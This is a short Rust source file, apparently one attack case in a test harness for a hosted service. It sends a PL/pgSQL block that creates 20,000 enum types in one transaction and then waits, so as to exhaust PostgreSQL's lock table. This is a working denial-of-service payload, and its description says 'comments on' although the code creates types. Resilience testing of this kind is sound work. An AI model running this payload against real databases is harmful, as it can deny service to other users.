//! A script that takes the whole lock table of PostgreSQL.

use std::sync::Arc;

use super::{Attack, Field};
use serde_json::json;

pub(super) const ATTACK: Attack = Attack {
    name: "very_many_locks",
    does: "comments on 20,000 types in one script, and waits",
    run: |field| Box::pin(run(field)),
};

const SCRIPT: &str = "DO $$ BEGIN
    FOR n IN 1..20000 LOOP
        EXECUTE format('CREATE TYPE t%s AS ENUM ()', n);
    END LOOP;
    PERFORM pg_sleep(5);
END $$";

async fn run(field: Arc<Field>) {
    let app = field.attacker().await;
    let _ = app.manage("POST", "/sql").json(json!({ "sql": SCRIPT })).try_send().await;
}
